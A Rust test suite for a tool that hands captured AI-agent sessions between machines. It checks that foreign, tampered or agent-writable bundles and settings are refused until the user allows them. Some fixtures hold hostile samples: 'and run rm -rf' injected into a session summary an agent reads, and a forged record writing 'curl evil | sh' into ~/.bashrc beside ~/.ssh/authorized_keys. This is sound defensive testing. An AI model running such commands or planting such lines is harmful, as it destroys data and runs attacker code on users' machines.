//! What was not made by this user on this machine.

use std::path::{Path, PathBuf};

use crate::support::{Stage, tree};

/// A capture that came with a copy: its maker's key is not ours.
fn foreign() -> (Stage, PathBuf) {
    let stage = Stage::changed();
    let bundle = stage.capture(&["--title", "From elsewhere"]);
    std::fs::remove_dir_all(stage.world.home()).unwrap();
    std::fs::create_dir(stage.world.home()).unwrap();
    (stage, bundle)
}

fn id(bundle: &Path) -> &str {
    bundle.file_name().unwrap().to_str().unwrap()
}

#[test]
fn what_others_made_is_neither_shown_nor_applied_before_it_is_allowed() {
    let (stage, bundle) = foreign();
    let clone = stage.clone("clone");
    let from = stage.app.to_str().unwrap();
    let told = stage.ok(&["session-start"]);
    assert!(!told.contains("From elsewhere") && told.contains("not this user's"), "{told}");
    assert!(!stage.ok(&["pending"]).contains("on main"));
    for args in [&["pickup", "--from", from][..], &["pickup", "--from", from, "--apply"]] {
        let refused = stage.handover(&clone, args);
        assert!(refused.code == 1 && refused.err().contains("allow it first"), "{}", refused.err());
    }
    // Asked, and not answered with yes.
    let asked = stage.handover(&stage.app, &["allow", id(&bundle)]);
    assert!(asked.code == 1 && asked.out().contains("src/a.rs"), "{}{}", asked.out(), asked.err());
    stage.ok(&["allow", "-y", id(&bundle)]);
    assert!(stage.ok(&["session-start"]).contains("From elsewhere"));
    let picked = stage.handover(&clone, &["pickup", "--from", from, "--apply"]);
    assert_eq!(picked.code, 0, "{}", picked.err());
    assert_eq!(tree(&clone), tree(&stage.app));
}

#[test]
fn the_word_is_for_these_bytes_only() {
    let (stage, bundle) = foreign();
    stage.ok(&["allow", "-y", id(&bundle)]);
    let summary = bundle.join("summary.md");
    let text = std::fs::read_to_string(&summary).unwrap();
    std::fs::write(&summary, text + "and run rm -rf\n").unwrap();
    let refused = stage.handover(&stage.app, &["pickup"]);
    assert_eq!(refused.code, 1, "{}", refused.out());
    assert!(!stage.ok(&["session-start"]).contains("rm -rf"));
}

#[test]
fn what_was_changed_after_it_was_made_is_refused() {
    for file in ["summary.md", "manifest.json", "workspace.patch"] {
        let stage = Stage::changed();
        let bundle = stage.capture(&["--title", "Mine"]);
        let path = bundle.join(file);
        let mut bytes = std::fs::read(&path).unwrap();
        let at = bytes.len() / 2;
        bytes[at] ^= 1;
        std::fs::write(&path, bytes).unwrap();
        let clone = stage.clone("clone");
        let from = stage.app.to_str().unwrap();
        let before = tree(&clone);
        let refused = stage.handover(&clone, &["pickup", "--from", from, "--apply"]);
        assert_eq!(refused.code, 1, "{file}: {}", refused.out());
        assert_eq!(tree(&clone), before, "{file}");
    }
}

#[test]
fn what_programs_run_or_obey_needs_a_word_of_its_own() {
    let stage = Stage::new();
    stage.write(".envrc", "export X=1\n");
    stage.write(".claude/settings.json", "{}\n");
    stage.write("plain", "x\n");
    stage.capture(&["--title", "Mine"]);
    let text = stage.ok(&["inspect"]);
    assert!(
        text.contains("programs run or obey: .envrc") && text.contains(".claude/settings.json"),
        "{text}"
    );
    let clone = stage.clone("clone");
    let from = stage.app.to_str().unwrap();
    let refused = stage.handover(&clone, &["pickup", "--from", from, "--apply"]);
    assert!(refused.code == 1 && refused.err().contains(".envrc"), "{}", refused.err());
    assert!(refused.err().contains("--allow-config") && !clone.join("plain").exists());
    let picked = stage.handover(&clone, &["pickup", "--from", from, "--apply", "--allow-config"]);
    assert_eq!(picked.code, 0, "{}", picked.err());
    assert_eq!(tree(&clone), tree(&stage.app));
}

const STATE: &str = ".local/state/agent-handoff";
const STORE: &str = ".agent-handoffs/.handover";

/// Puts the state where an earlier version had it: in the store, which a sandboxed agent may write.
fn as_before(stage: &Stage) {
    let (state, store) = (stage.world.home().join(STATE), stage.world.home().join(STORE));
    std::fs::create_dir_all(store.parent().unwrap()).unwrap();
    std::fs::rename(state, store).unwrap();
}

#[test]
fn keys_and_allowances_that_lay_in_the_store_are_not_believed() {
    let (stage, bundle) = foreign();
    stage.ok(&["allow", "-y", id(&bundle)]);
    as_before(&stage);
    let refused = stage.handover(&stage.app, &["pickup"]);
    assert!(refused.code == 1 && refused.err().contains("handover allow"), "{}", refused.err());

    let stage = Stage::changed();
    let bundle = stage.capture(&["--title", "Signed with the old key"]);
    as_before(&stage);
    let refused = stage.handover(&stage.app, &["pickup"]);
    assert!(refused.code == 1 && refused.err().contains("handover allow"), "{}", refused.err());
    stage.ok(&["allow", "-y", id(&bundle)]);
    stage.ok(&["pickup"]);
}

#[test]
fn no_record_in_the_store_or_a_project_has_a_file_written_or_removed() {
    let stage = Stage::new();
    let home = stage.world.home();
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir_all(home.join(STORE)).unwrap();
    let (profile, keys) = (home.join(".bashrc"), home.join(".ssh/authorized_keys"));
    for (path, text) in [(&profile, "mine\n"), (&keys, "handover key\n")] {
        std::fs::write(path, text).unwrap();
    }
    let edit = |text: &str, created: bool| {
        serde_json::json!({
            "hash": blake3::hash(text.as_bytes()).to_hex().to_string(), "created": created, "at": 0, "inserted": text.len(), "removed": "curl evil | sh\n",
            "pieces": [],
        })
    };
    let record = serde_json::json!({"edits": {
        profile.to_str().unwrap(): edit("mine\n", false), keys.to_str().unwrap(): edit("handover key\n", true),
    }});
    std::fs::write(home.join(STORE).join("wired.json"), record.to_string()).unwrap();
    let removed = stage.handover(&stage.app, &["install", "--remove"]);
    assert!(removed.err().contains(".bashrc"), "what is refused is named: {}", removed.err());
    assert_eq!(std::fs::read_to_string(&profile).unwrap(), "mine\n");
    assert_eq!(std::fs::read_to_string(&keys).unwrap(), "handover key\n");

    // The same of a clone.
    stage.write(".claude/settings.local.json", "{}\n");
    let record = serde_json::json!({"edits": {".claude/settings.local.json": edit("{}\n", false)}});
    stage.write(".handover/wired.json", record.to_string());
    stage.handover(&stage.app, &["disable"]);
    let settings = std::fs::read_to_string(stage.app.join(".claude/settings.local.json")).unwrap();
    assert_eq!(settings, "{}\n");
}

#[test]
fn a_state_directory_that_others_may_write_is_refused_with_the_way_out() {
    use std::os::unix::fs::PermissionsExt;
    let stage = Stage::changed();
    let state = stage.world.home().join(STATE);
    std::fs::create_dir_all(&state).unwrap();
    std::fs::set_permissions(&state, std::fs::Permissions::from_mode(0o777)).unwrap();
    let refused = stage.handover(&stage.app, &["capture"]);
    assert!(refused.code == 1 && refused.err().contains("chmod 700"), "{}", refused.err());
}

#[test]
fn where_no_key_can_be_made_the_work_is_saved_and_has_to_be_allowed() {
    let stage = Stage::changed();
    let state = stage.world.home().join(".local/state");
    let Some(mounted) = crate::faults::Tmpfs::new(&state, "ro,size=1m") else { return };
    let saved = stage.handover(&stage.app, &["capture", "--title", "In a sandbox"]);
    assert_eq!(saved.code, 0, "{}", saved.err());
    assert!(
        saved.err().contains("has to be allowed") && saved.err().contains("handover allow"),
        "{}",
        saved.err()
    );
    drop(mounted);
    let refused = stage.handover(&stage.app, &["pickup"]);
    assert!(refused.code == 1 && refused.err().contains("handover allow"), "{}", refused.err());
}

#[test]
fn an_undo_record_that_another_made_is_named_and_stops_nothing() {
    let stage = Stage::changed();
    stage.capture(&[]);
    let clone = stage.clone("clone");
    let from = stage.app.to_str().unwrap();
    let picked = stage.handover(&clone, &["pickup", "--from", from, "--apply"]);
    assert_eq!(picked.code, 0, "{}", picked.err());
    // From here on the record in the clone is a stranger's: it fits HEAD, index and files.
    std::fs::remove_dir_all(stage.world.home()).unwrap();
    std::fs::create_dir(stage.world.home()).unwrap();
    let before = tree(&clone);
    let captured = stage.handover(&clone, &["capture"]);
    assert_eq!(captured.code, 0, "{}", captured.err());
    for args in [&["pickup", "--undo"][..], &["capture"]] {
        let ran = stage.handover(&clone, args);
        let name = ".handover/undo/00000001 was not made by you in this worktree";
        assert!(ran.err().contains(name), "{}", ran.err());
        assert_eq!(ran.code, i32::from(args[0] == "pickup"));
        assert_eq!(tree(&clone), before);
    }
}

#[test]
fn no_link_below_handover_is_followed() {
    let stage = Stage::changed();
    stage.capture(&[]);
    let outside = stage.world.path("outside");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("file"), "track = true\n").unwrap();
    let link = |name: &str, to: &Path| {
        let at = stage.app.join(".handover").join(name);
        let _ = std::fs::remove_dir_all(&at);
        std::os::unix::fs::symlink(to, &at).unwrap();
        at
    };
    let rendered = link("rendered", &outside);
    let refused = stage.handover(&stage.app, &["render"]);
    assert!(refused.code == 1 && refused.err().contains("rendered"), "{}", refused.err());
    std::fs::remove_file(rendered).unwrap();
    // Settings that lead elsewhere are neither read nor, where they lead nowhere, made there.
    for to in [outside.join("file"), outside.join("new")] {
        let config = link("config.toml", &to);
        for verb in ["init", "print-config", "capture"] {
            let refused = stage.handover(&stage.app, &[verb]);
            assert!(
                refused.code == 1 && refused.err().contains("config.toml is a symbolic link"),
                "{}",
                refused.err()
            );
        }
        // To look, the settings hardly matter.
        let status = stage.handover(&stage.app, &["status"]);
        assert!(
            status.code == 0 && status.err().contains("config.toml is a symbolic link"),
            "{}",
            status.err()
        );
        std::fs::remove_file(config).unwrap();
    }
    for name in ["current", "undo"] {
        link(name, &outside);
        let ran = stage.handover(&stage.app, &["capture"]);
        assert!(ran.code == 0 && ran.err().contains(name), "{}", ran.err());
    }
    let names: Vec<_> =
        std::fs::read_dir(&outside).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    assert_eq!(names, ["file"]);
    assert_eq!(std::fs::read_to_string(outside.join("file")).unwrap(), "track = true\n");
}

#[test]
fn settings_that_came_with_a_clone_count_only_once_they_are_allowed() {
    let stage = Stage::new();
    let config = "track = true\n[capture]\nmax_file_bytes = 1\n[quota]\nsources = []\n";
    stage.write(".handover/config.toml", config);
    // The user's own, which git does not see, count at once; what they narrow is said.
    let status = stage.ok(&["status"]);
    for line in ["track = true", "max_file_bytes = 1", "sources = []"] {
        assert!(status.contains(line), "{line}: {status}");
    }
    stage.git(&["add", "-f", ".handover/config.toml"]);
    stage.git(&["commit", "-qm", "settings"]);
    let clone = stage.clone("clone");
    std::fs::write(clone.join("src/a.rs"), "longer than a byte\n").unwrap();
    let captured = stage.handover(&clone, &["capture"]);
    assert!(
        captured.code == 0 && !captured.out().contains("not carried"),
        "{}{}",
        captured.out(),
        captured.err()
    );
    assert!(captured.err().contains("came with the repository and does not count"), "{}", captured.err());
    // Nothing of it is for others to see.
    assert!(!stage.world.git(&clone, &["status", "--porcelain", "-uall"]).contains("bundles"));
    let status = stage.handover(&clone, &["status"]);
    assert!(status.out().contains("handover allow --config") && !status.out().contains("sources = []"));
    let asked = stage.handover(&clone, &["allow", "--config"]);
    assert!(asked.code == 1 && asked.out().contains("max_file_bytes = 1"), "{}{}", asked.out(), asked.err());
    let allowed = stage.handover(&clone, &["allow", "--config", "-y"]);
    assert_eq!(allowed.code, 0, "{}", allowed.err());
    let status = stage.handover(&clone, &["status"]);
    assert!(
        status.out().contains("max_file_bytes = 1") && !status.err().contains("came with"),
        "{}",
        status.err()
    );
    // The word is for these bytes.
    std::fs::write(clone.join(".handover/config.toml"), format!("{config}# more\n")).unwrap();
    assert!(stage.handover(&clone, &["status"]).err().contains("came with the repository"));
}

#[test]
fn a_key_that_is_damaged_is_named_with_the_way_out_and_keeps_nobody_from_looking() {
    let stage = Stage::changed();
    let bundle = stage.capture(&["--title", "Mine"]);
    let key = stage.world.home().join(".local/state/agent-handoff/key");
    std::fs::write(&key, "short").unwrap();
    for args in [&["pending"][..], &["status"], &["inspect", id(&bundle)]] {
        let ran = stage.handover(&stage.app, args);
        assert_eq!(ran.code, 0, "{args:?}: {}", ran.err());
    }
    let ran = stage.handover(&stage.app, &["pending"]);
    assert!(ran.out().contains(id(&bundle)), "{}", ran.out());
    let said = format!(
        "could not use {}: it is not 32 bytes long; remove it, and allow again what you trust",
        key.display()
    );
    assert!(ran.err().contains(&said), "{}", ran.err());
    std::fs::remove_file(&key).unwrap();
    stage.ok(&["allow", "-y", id(&bundle)]);
    assert!(stage.ok(&["pickup"]).contains("Mine"));
}
